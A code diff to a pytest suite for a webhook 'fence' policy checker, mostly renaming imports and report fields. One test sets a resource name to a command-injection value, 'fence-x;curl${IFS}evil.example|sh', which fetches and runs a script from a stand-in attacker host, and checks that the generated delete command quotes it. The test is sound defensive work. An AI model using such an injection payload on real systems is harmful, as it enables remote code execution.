@@ -11,10 +11,10 @@ import pytest
 from tests.policy.fences.made import FENCE
 from tests.policy.fences.made import fence as made_fence
 from webhook.doctor import fences as fences_module
-from webhook.doctor.fence_documents import fence_documents
+from webhook.doctor.documents import fence_documents
 from webhook.doctor.fences import examine_fences
 from webhook.fence.manifests import manifests
-from webhook.policy.fences.model import Fence
+from webhook.policy.fences import Fence
 
 NAME = "fence-shop-operator"
 FENCES = [made_fence()]
@@ -43,7 +43,7 @@ def changed(kind: int, field: str, value: object) -> list[dict[str, Any]]:
 
 def checks(objects: list[dict[str, Any]], fences: list[Fence] | None = None) -> list[str]:
     reports = examine_fences(fence_documents(objects), FENCES if fences is None else fences)
-    return [f"{report.subject}: {one.check}" for report in reports for one in report.diagnoses]
+    return [f"{report.subject}: {one.check}" for report in reports for one in report.findings]
 
 
 @pytest.mark.parametrize(
@@ -132,7 +132,7 @@ def test_findings_without_a_policy_file(objects: list[dict[str, Any]], found: li
 
 
 def test_every_finding_is_tried() -> None:
-    named = set(re.findall(r'Diagnosis\(\s*"([a-z-]+)"', inspect.getsource(fences_module)))
+    named = set(re.findall(r'danger\(\s*"([a-z-]+)"', inspect.getsource(fences_module)))
     assert len(named) == 12
     assert all(
         f'"{check}"' in Path(__file__).read_text() or f": {check}" in Path(__file__).read_text() for check in named
@@ -149,12 +149,12 @@ def test_the_name_of_a_fence_is_one_word_of_the_command_to_delete_it() -> None:
     for one in objects:
         one["metadata"]["name"] = "fence-x;curl${IFS}evil.example|sh"
     (_, report) = examine_fences(fence_documents([*applied(), *objects]), FENCES)
-    assert report.diagnoses[0].cure.endswith(" 'fence-x;curl${IFS}evil.example|sh'")
+    assert report.findings[0].fix.endswith(" 'fence-x;curl${IFS}evil.example|sh'")
 
 
 def test_a_missing_lease_that_is_allowed_denies_nothing() -> None:
     fences = [made_fence(missing_lease="allow")]
     lease = {**LEASE, "metadata": {"name": "x", "namespace": "shop"}}
     (report,) = examine_fences(fence_documents([*applied(missing_lease="allow"), lease]), fences)
-    assert report.diagnoses[0].risk == "there is no lease of this name: no write is denied."
-    assert FENCE["lease"] in report.diagnoses[0].place
+    assert report.findings[0].message == "there is no lease of this name: no write is denied."
+    assert FENCE["lease"] in report.findings[0].place
